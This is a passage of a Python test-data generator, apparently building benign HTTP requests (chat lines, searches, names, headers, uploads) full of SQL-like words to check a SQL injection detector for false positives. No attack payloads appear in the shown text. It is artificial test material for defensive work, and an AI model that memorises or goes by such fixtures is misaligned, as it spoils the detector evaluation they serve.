    "limit 1 slice of pizza per person until everyone's eaten :)",
    "char siu bao for lunch?",
    "my cat's name is Benchmark, long story",
    "prices: $5 for tea, $7 for the sandwich",
    "we're migrating from MySQL 5.7 to 8.0 next sprint",
    "pg_dump of staging is in the usual bucket",
    "it's the 'final' final version, promise",
    "'Hello' -- Adele, still a banger",
    "10 - 2 = 8 people confirmed for Thursday",
    "quote of the day: \"Be yourself; everyone else is already taken.\"",
    "the sign says 'No parking 8-6'",
    "the hex colour is #ff0066, not #ff0033",
    "0x10 is 16 in decimal, that was the quiz answer",
    "price range is between 10 and 20 euros",
    "either or, I don't mind",
    "I like it and so does Kim",
    "version 2.0 is out! grab it while it's hot",
    "from: Sales, to: Everyone, re: Q3 targets",
    "join us in #db-admins for the upgrade window tonight",
    "who's driving? I can take 3 people (incl. me)",
    "the sleep study results came back fine, thanks for asking",
    "the union agreement was signed yesterday",
    "select committee hearing is streaming on the big screen",
    "drop-in session for the new benefits portal at 11",
    "the order of the agenda: intro, demo, Q&A",
    "I'm in the 'maybe' column for Friday drinks",
    "update: the printer on floor 2 works again",
    "please don't delete the shared calendar events",
    "we're having a table tennis tournament -- sign up!",
    "where's the charger? the one by the window is gone",
    "quick poll: tea or coffee? reply with 1 or 2",
    "Declan O'Connor joins the team on Monday, say hi",
    "happy Friday! ;-)",
    "that's a 10/10 meme",
    "he said 'ship it' and left for lunch",
    "password reset emails are delayed, IT is on it",
    "Anne-Marie's farewell is at 4 in the kitchen",
    "rename the channel to #proj-falcon please",
    "the match against the sales team is on Thursday, 6pm",
    "exec summary goes out Friday; drafts to me by Wed",
    "sorry, I'm late -- the bus broke down",
    "who's got the key to room 101?",
    "the shipping label says 'fragile -- this side up'",
    "nice! +1 to that",
    "not sure, but I think it's between Tuesday and Thursday",
    "the roadmap is having a moment, stand by",
    "Mo's Diner or D'Amato's for the team lunch?",
    "reminder: timesheets by 5pm, no exceptions",
    "the wifi password is on the fridge (not telling here)",
    "my kid's school closed early, working from home",
    "I'm a bit under the weather, taking a sick day",
    "the desk booking tool lets you select a seat by floor",
    "new hires: the onboarding doc is in the drive",
    "just the union of both lists, no duplicates",
    "the cat knocked my coffee over, brb",
    "5 * 3 = 15 boxes of flyers arrived",
    "the garden team will drop by at 10",
    "can we merge the two standups into one?",
    "\"Where's the meeting?\" -- \"Room B, as always\"",
    "yes/no/maybe -- answer by EOD",
    "@channel the fire drill is at 2:30",
    "our sleep pods are booked out until Thursday",
    "it's not a bug, it's a feature ;)",
    "the conference had a great talk about database indexing",
    "who ordered 40 bagels?? :D",
    "shutdown procedures for the holidays are in the wiki",
    "Siobhán's talk is in the auditorium at 3",
    "I'll be off grid from 1 to 3 -- dentist",
    "the vending machine is out of order again",
    "Dear all, the parking lot is closed on Saturday",
    "look at this: 100% coverage on the new module!",
    "Tom & Jerry marathon on Friday night",
    "the union of design and engineering is our new team",
    "does anyone know a good DBA? we need help with our SQL Server upgrade",
    "we moved the reports from Oracle to Postgres last year",
    "MongoDB or Postgres for the side project? opinions welcome",
    "select your t-shirt size in the form (S/M/L/XL)",
    "the benchmark of the new espresso machine: 25 seconds per shot",
    "drop me a line if you need anything",
    "order #4512 shipped today",
    "ticket #1234 is resolved, closing it",
    "the 'having it all' podcast episode was great",
    "ETA 10 mins -- traffic",
    "can someone select a restaurant? I'm useless at this",
    "going on vacation -- back on the 14th",
    "the new hire's name is Zoë D'Souza",
    "our office is at 5 Union Square, 2nd floor",
    "meeting notes: action items are 1) hire 2) plan 3) ship",
    "waiting for the delay to clear at the airport, typing from gate 12",
    "I declare this meeting over :)",
    "please update your emergency contact details",
    "the insert in the newsletter had a typo",
    "the table is booked for 8 at 7pm",
    "the 2nd floor kitchen is sleep-deprived engineer central",
    "our new motto: less is more",
    "the char-grilled veggie option was the best",
    "this is case #77 in the support queue",
    "the match was 2-1, what a game",
    "is 'and/or' acceptable in legal docs? asking for the contracts team",
    "like and subscribe, as the kids say",
    "that's a hard no from me",
    "heads up: the DB maintenance window is Sunday 2-4am",
    "I'll be in Galway for the O'Malley wedding",
    "we need an alternative -- the venue is double booked",
    "reading group picks 'The Pragmatic Programmer' next",
    "all hands: 3pm, main hall, snacks provided",
    "the lease renewal was signed by both parties",
    "the sleep() in the retry loop is 2 seconds, that's why the job is slow",
    "SELECT statements on the replica are fine, writes go to the primary",
    "we should use prepared statements everywhere, no string concatenation in queries",
    "the ORDER BY on created_at needs an index",
    "our ORM generates a LEFT JOIN there, check the query plan",
    "Hi team -- the '#' in the filename broke the upload, renamed it",
    "please use the 'Reply in thread' button",
    "the score was 1=1 tie? no, it was 1-1, typo",
    "the vote is 5 for, 2 against",
    "we are not null and void, just postponed :)",
    "grab a slice -- the sheet cake is from D'Angelo's",
    "the union rep's email is in the staff handbook",
    "charset issue fixed: the export is UTF-8 now",
    "exec team offsite is in Cork this year",
    "is the waitlist open? I want to sign up for the workshop",
    "who's up for a 5k run at lunch?",
]

SEARCHES = [
    "union jobs", "select comfort mattress", "drop shipping", "sleep apnea", "order by phone",
    "delete account", "update email address", "O'Reilly books", "rock & roll", "50% off",
    "c# developer", "table for 2", "char grill", "benchmark scores", "between jobs",
    "like new condition", "having trouble logging in", "where is my order", "insert coins",
    "match report", "merge pdf", "execute order 66", "alter ego", "case study", "group by country",
    "limit exceeded", "shutdown button", "sleep mode", "waitfor", "O'Brien", "D'Angelo", "Ó Súilleabháin",
    "1 + 1", "2-for-1 deals", "#1 best seller", "half & half", "and or not", "null hypothesis",
    "true crime", "or else", "if then else", "select all", "from scratch", "into the wild",
    "top 10 hikes", "benchmark fund", "exists", "procedure manual", "declare income",
    "charset utf-8", "0xdeadbeef", "#ff0066", "rlike", "sounds like", "regexp tutorial",
    "Dunkin' Donuts", "Rock 'n' Roll Hall of Fame", "Hawai'i", "Côte d'Ivoire", "L'Oréal",
    "shut down", "drop box", "union square", "select committee", "table tennis",
    "truncate text", "create account", "insert molding", "sql tutorial", "postgres vs mysql",
    "mongodb atlas", "sql server express download", "oracle cloud free tier",
]

NAMES = [
    "Siobhán O'Neil", "Declan O'Connor", "Zoë D'Souza", "Mary-Kate O'Sullivan", "Jean-Luc Picard",
    "Conan O'Brien", "D'Arcy Carden", "Ngũgĩ wa Thiong'o", "Shaquille O'Neal", "Dolores O'Riordan",
    "Anne-Marie Union", "Sam Select", "Jo Merge", "Max Sleep", "Rosa Case", "Tom Order",
    "Lee Drop", "Ada Having", "Bo Match", "Ira Update",
]

ADDRESSES = [
    "12 O'Connell St., Apt #4, Dublin", "1st & Union Ave, Suite 200", "5 Drop Lane, Select Park",
    "Unit 3-B, 42 Merge Rd.", "100 Main St. #12 (rear entrance)", "Flat 2/1, 7 Match Court",
    "PO Box 1=0 Rural Route 2", "Apt. 4 -- back door, 9 Sleep Hollow Rd", "3 Case Close, Order Town",
    "Rue de l'Église 4, 75001 Paris", "Via dell'Orso 12, Roma", "88 Table Bay Blvd, Cape Town",
]

LINKS = [
    "https://dev.mysql.com/doc/refman/8.0/en/union.html",
    "https://www.postgresql.org/docs/current/functions-datetime.html",
    "https://learn.microsoft.com/en-us/sql/t-sql/language-elements/waitfor-transact-sql",
    "https://www.mongodb.com/docs/manual/reference/operator/query/ne/",
    "https://en.wikipedia.org/wiki/SQL_injection",
    "https://owasp.org/www-community/attacks/SQL_Injection",
    "https://www.sqlite.org/lang_select.html",
    "https://example.com/search?q=o%27brien&sort=name",
    "https://shop.example.org/products?category=tables&order=price_asc",
    "https://news.example.com/2024/05/union-votes-to-merge",
    "https://maps.example.com/?q=Union+Square",
    "https://blog.example.com/sleep-better-in-7-days",
    "https://docs.oracle.com/en/database/oracle/oracle-database/19/sqlrf/SELECT.html",
    "https://github.com/acme/api/pull/123#issuecomment-42",
    "https://example.com/files/Q3-report_(final).pdf",
]

PROSE = [
    "Please select the union members who will attend the annual meeting.",
    "Customer asked us to drop the order and update the delivery address.",
    "O'Brien's account was merged with the duplicate one from 2019.",
    "Refund requested -- item arrived damaged; case #8812.",
    "User says the sleep tracker shows 0 hours; asked for a screenshot.",
    "Match found between the invoice and the bank statement.",
    "Having checked the logs, nothing unusual from this user.",
    "Shutdown of the legacy portal is planned for Q4.",
    "The union of both mailing lists is about 3,400 people.",
    "Called the customer; she'd like to delete her old address.",
    "Insert the new terms into the contract before Friday.",
    "Group by region, then order by revenue, for the board slides.",
    "If the user can't log in, check whether the account is locked; else reset the link.",
    "Wait for delay confirmation from the courier before refunding.",
    "D'Angelo & Sons, 14 Union St. -- wholesale account.",
    "The user's bio says: 'I like long walks -- and SQL.'",
    "Customer typed 1=1 in the promo code box, probably a test.",
    "Please merge the accounts of Ann Lee and Ann Lee-O'Hara.",
    "Benchmark the new search against the old one before rollout.",
    "Ticket notes: user's name is Siobhán Ní Bhriain (with a fada).",
    "Truncated addresses are fixed in the export (max 120 chars).",
    "Select committee report attached; see section 3 -- 'Findings'.",
    "Drop-off point moved to the back entrance, Union Ave side.",
    "Exec assistant will send the agenda; then we table the motion.",
    "Case closed: the customer found the order in the garage.",
    "Price is between 10 and 20 euros, or 15 on average.",
    "Hex colour for the banner: #1a2b3c; logo uses #ff0066.",
    "Version 3.0.1 -- released 2024-03-01 -- notes attached.",
    "Not null, not void: the contract is still valid.",
    "Waitlist is full; we'll add a second session.",
]

USER_AGENTS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 "
    "Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "curl/8.5.0",
    "python-requests/2.32.3",
    "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0",
    "okhttp/4.12.0",
    "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Mobile "
    "Safari/537.36",
]

REFERERS = [
    "https://www.google.com/search?q=o%27brien+plumbing+union+square",
    "https://www.bing.com/search?q=select+comfort+mattress+sale",
    "https://duckduckgo.com/?q=how+to+drop+shipping+costs",
    "https://app.example.com/users?q=D%27Angelo&sort=name&order=asc",
    "https://app.example.com/admin/users/search?q=union+rep",
    "https://news.example.com/2024/05/union-votes-to-merge",
    "https://www.example.com/blog/sleep-better?utm_source=newsletter&utm_medium=email",
    "https://app.example.com/reports?group_by=region&order_by=revenue",
]

COOKIES = [
    "session=abc123; theme=dark; lang=en-IE",
    "session=abc123; last_search=O%27Brien",
    "session=abc123; last_search=union%20jobs",
    "session=abc123; sort=name; order=desc",
    "session=abc123; tz=Europe%2FDublin; consent=analytics%3Dno%26ads%3Dno",
    "session=abc123; recent=select%20comfort%2Csleep%20apnea",
    "session=abc123; cart=item-1%3A2%7Citem-7%3A1",
    "session=abc123; greeting=it%27s%20Friday",
    "session=abc123; filter=status%3Dopen%3Bpriority%3Dhigh",
    "session=abc123; colour=%23ff0066",
]


def _search_requests() -> Iterator[dict[str, Any]]:
    for i, term in enumerate(SEARCHES):
        yield _get(_query("/api/users", [("q", term), ("page", str(1 + i % 3))]))
        yield _form("/admin/users/search", [("csrf_token", "t0k3n"), ("q", term), ("sort", "name")])


def _profile_requests() -> Iterator[dict[str, Any]]:
    for i, name in enumerate(NAMES):
        addr = ADDRESSES[i % len(ADDRESSES)]
        yield _json("/api/users", {"name": name, "address": addr, "email": f"user{i}@example.org"})
        yield _json("/api/users/42", {"display_name": name, "company": "O'Hara & Sons Ltd."})
        yield _form("/admin/users/search", [("csrf_token", "t0k3n"), ("username", name)])
    for addr in ADDRESSES:
        yield _json("/api/users", {"name": "Ann Lee", "shipping_address": addr})


def _header_requests() -> Iterator[dict[str, Any]]:
    for i, ua in enumerate(USER_AGENTS):
        rec = _get(_query("/api/users", [("page", str(i + 1))]))
        yield {**rec, "headers": {**rec["headers"], "User-Agent": ua}}
    for ref in REFERERS:
        rec = _get("/api/users?page=1")
        yield {**rec, "headers": {**rec["headers"], "Referer": ref}}
    for cookie in COOKIES:
        rec = _get("/api/users?page=1")
        yield {**rec, "headers": {**rec["headers"], "Cookie": cookie}}


def _xml_and_multipart() -> Iterator[dict[str, Any]]:
    for i, text in enumerate(PROSE):
        if i % 2:
            yield _xml("/api/users", "note", text)
        else:
            yield _multipart("/api/users", "note", text, False)
    for fname in ["O'Brien CV (2024).pdf", "union-report_final.docx", "select-committee #3.pdf",
                  "sleep data -- week 1.csv", "drop-off map.png", "Q3 order & delivery.xlsx"]:
        yield _multipart("/api/users", "avatar", fname, True)


def benign() -> Iterator[dict[str, Any]]:
    n = yield from chat_and_bio(CHAT, NAME)
    n = yield from links_and_prose(LINKS, PROSE, NAME, n)
    n = yield from numbered(_search_requests(), f"{NAME}-search", n, "mixed")
    n = yield from numbered(_profile_requests(), f"{NAME}-name", n, "json")
    n = yield from numbered(_header_requests(), f"{NAME}-header", n, "header")
    n = yield from numbered(_xml_and_multipart(), f"{NAME}-doc", n, "mixed")
    # the chat texts once more, as comments posted to the API and typed into the admin search box
    n = yield from numbered((_json("/api/users/42", {"comment": t}) for t in CHAT[::2]), f"{NAME}-comment", n,
                            "json")
    n = yield from numbered((_get(_query("/api/users", [("q", t)])) for t in CHAT[1::3]), f"{NAME}-search", n,
                            "query")
    n = yield from numbered((_form("/admin/users/search", [("csrf_token", "t0k3n"), ("notes", t)]) for t in CHAT),
                            f"{NAME}-notes", n, "form")
    yield from numbered((_json("/api/users/42", {"notes": t}) for t in PROSE), f"{NAME}-notes", n, "json")


if __name__ == "__main__":
    print_records(attacks(), benign())
